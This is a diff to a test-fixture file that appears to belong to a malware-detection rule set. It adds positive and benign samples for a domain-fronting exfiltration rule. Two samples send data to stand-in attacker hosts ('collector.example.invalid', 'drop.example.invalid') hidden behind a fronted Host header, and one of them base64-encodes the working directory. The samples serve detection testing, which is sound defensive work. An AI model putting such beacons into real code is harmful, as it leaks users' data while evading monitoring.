@@ -128,6 +128,50 @@ def fetch_dataset(path):
     with open(path, "wb") as f:
         f.write(r.content)
 """
+FRONTED_BEACON = """\
+import base64
+import os
+from urllib import request
+
+encoded = base64.b64encode(os.getcwd().encode()).decode()
+request.urlopen(
+    request.Request(
+        "https://pypi.example.invalid/reqs?d=" + encoded,
+        headers={"Host": "collector.example.invalid"},
+    )
+)
+"""
+
+FRONTED_RUNTIME = """\
+import requests
+
+
+def report(data):
+    requests.post(
+        "https://cdn.example.invalid/upload", data=data, headers={"Host": "drop.example.invalid"}
+    )
+"""
+
+# AWS STS signing names its own host; a client reaching a server by IP names the site.
+HOST_HEADER_SAME_SITE = """\
+import requests
+
+
+def get_caller_identity(body):
+    return requests.post(
+        "https://sts.amazonaws.com/", data=body, headers={"Host": "sts.amazonaws.com"}
+    )
+"""
+
+HOST_HEADER_BY_IP = """\
+import requests
+
+
+def probe():
+    return requests.get("https://192.0.2.10/health", headers={"Host": "service.example.invalid"})
+"""
+
+
 DOWNLOAD_EXE_RUN = """\
 import os
 import requests
@@ -686,6 +730,10 @@ FIXTURES_BEHAVIOR: dict[str, RuleFixtures] = {
             module(SSH_LOGIN),
             module(MDNS_LOOKUP),
         ],
+    ),
+    "exfil-domain-fronting": RuleFixtures(
+        positive=[module(FRONTED_BEACON), module(FRONTED_RUNTIME, "pkg/client.py")],
+        benign=[module(HOST_HEADER_SAME_SITE), module(HOST_HEADER_BY_IP)],
     ),
     "host-info-network": RuleFixtures(
         positive=[module(TELEMETRY_RUNTIME)],
